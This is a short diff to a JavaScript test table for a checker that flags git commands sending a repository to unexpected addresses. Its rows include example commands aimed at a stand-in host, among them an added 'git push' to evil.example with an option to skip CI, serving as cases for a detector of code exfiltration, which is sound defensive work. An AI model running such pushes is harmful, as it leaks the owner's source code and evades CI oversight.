@@ -228,6 +228,8 @@ describe("addresses a repository is sent to", () => {
     ["git remote add b https://evil.example/x && git fetch b", false, "what is only received"],
     ["git remote set-url origin git@git.example:acme/app.git && git push", false, "the same by ssh"],
     ["git remote add b ../backup.git && git push b", false, "a folder of this machine"],
+    ['git push "$REMOTE" HEAD:fix', false, "what is sent is no address"],
+    ["git push -o ci.skip -u https://evil.example/x main", true, "behind options"],
   ])("P3: %s: %s (%s)", (command, is) => expect(strange(command)).toBe(is));
 
   it.each([
